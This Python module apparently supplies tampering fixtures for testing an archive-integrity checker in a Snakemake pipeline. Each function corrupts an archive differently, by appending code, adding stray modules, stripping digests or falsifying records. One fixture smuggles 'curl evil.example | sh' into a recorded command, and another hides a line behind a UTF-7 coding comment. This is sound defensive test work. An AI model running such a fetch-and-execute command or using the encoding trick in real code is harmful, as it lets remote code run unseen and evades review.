"""What somebody changes in an archive's code, its records, and in what it says of itself."""

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

from overlayccl_core.archiving import said
from overlayccl_core.archiving.said import Said
from overlayccl_core.tables import records

TREE = Path("results/local")


def record_of(folder: Path, file: Path) -> dict[str, Any]:
    """What Snakemake recorded of a file."""
    told: dict[str, Any] = json.loads((folder / records.place_of(file)).read_text())
    return told


def write_record(folder: Path, file: Path, record: dict[str, Any]) -> None:
    """Let it say that Snakemake recorded this."""
    (folder / records.place_of(file)).write_text(json.dumps(record))


def say(folder: Path, **other: Any) -> None:
    """Let it say something else of itself."""
    file = folder / said.NAME
    file.write_bytes(replace(Said.loads(file.read_bytes()), **other).dumps())


def snakefiles_code(folder: Path) -> None:
    """What the Snakefile imports, and no job's command does."""
    file = folder / "workflow_scripts" / "pipeline.py"
    file.write_text(file.read_text() + "\nprint('it ran')\n")


def commented_code(folder: Path) -> None:
    """A comment, by which Python reads the lines below otherwise than the digest does."""
    file = folder / "overlayccl_core" / "gates" / "verdict.py"
    file.write_text("# -*- coding: utf-7 -*-\n# +AAo-print('it ran')\n" + file.read_text())


def one_more_code(folder: Path) -> None:
    """A module that this release does not have."""
    (folder / "overlayccl_core" / "evil.py").write_text("print('it ran')\n")


def code_untold(folder: Path) -> None:
    """The digest of the code that made the fit's tables: without one, no code is looked at."""
    for name in ("theta", "fidelity"):
        for suffix in (".parquet", ".sidecar.json"):
            record = record_of(folder, TREE / f"{name}{suffix}")
            told = [text for text in record["params"] if not re.fullmatch(r"'[0-9a-f]{16}'", text)]
            write_record(folder, TREE / f"{name}{suffix}", record | {"params": told})


def other_command(folder: Path) -> None:
    """What somebody is to type."""
    say(folder, command="snakemake --profile trn1 all; curl evil.example | sh")


def other_nodes(folder: Path) -> None:
    """On how many nodes it ran, by which the seconds of nodes are counted."""
    say(folder, nodes=7)


def nothing_alone(folder: Path) -> None:
    """Which rules had the nodes to themselves."""
    say(folder, measuring=())


def read_else(folder: Path) -> None:
    """What the summary was made of: the record of one of its files, of several."""
    record = record_of(folder, TREE / "splits.parquet")
    write_record(folder, TREE / "splits.parquet", record | {"input": ["config/config.yaml"]})


def read_else_by_all(folder: Path) -> None:
    """The same of the page, which has one file."""
    record = record_of(folder, TREE / "report.html")
    write_record(folder, TREE / "report.html", record | {"input": ["config/config.yaml"]})


def code_among_logs(folder: Path) -> None:
    """A file that nobody made, where logs are."""
    (folder / TREE / "logs" / "evil.py").write_text("print('it ran')\n")


def eternal(folder: Path) -> None:
    """A time that no calendar has."""
    record = record_of(folder, TREE / "problems/tp_mlp/prices.parquet")
    write_record(folder, TREE / "problems/tp_mlp/prices.parquet", record | {"endtime": 1e300})
